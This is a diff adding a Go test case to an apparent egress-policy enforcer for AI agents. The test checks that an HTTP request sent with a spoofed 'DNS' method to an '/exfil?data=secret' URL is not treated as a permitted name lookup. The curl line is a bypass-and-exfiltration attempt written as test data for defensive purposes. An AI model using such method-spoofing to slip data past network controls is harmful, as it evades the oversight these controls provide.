@@ -309,6 +309,14 @@ func TestGuideFromMonitorToEnforce(t *testing.T) {
 		t.Errorf("%d enforced denials of api.openai.com recorded, want one at DNS and one for the request", denials)
 	}
 
+	// The policy permits looking up *.github.com; a request whose method is "DNS" is not a lookup,
+	// and must not pass as one.
+	before = len(w.github.Requests())
+	out, _ = w.sh(t, "firma run -c firma.toml --agent-id coder -- curl -sS --max-time 10 -X DNS 'https://api.github.com/exfil?data=secret'")
+	if n := len(w.github.Requests()); n != before || strings.Contains(out, "hello from github") {
+		t.Errorf("an HTTP request with method DNS passed as a name lookup:\n%s", out)
+	}
+
 	// Step 6: a stricter policy, checked in CI against the log: exactly the requests it denies that
 	// the policy in force allows — the package index, once in each run.
 	strict := filepath.Join(w.s.Dir, "policy-strict")
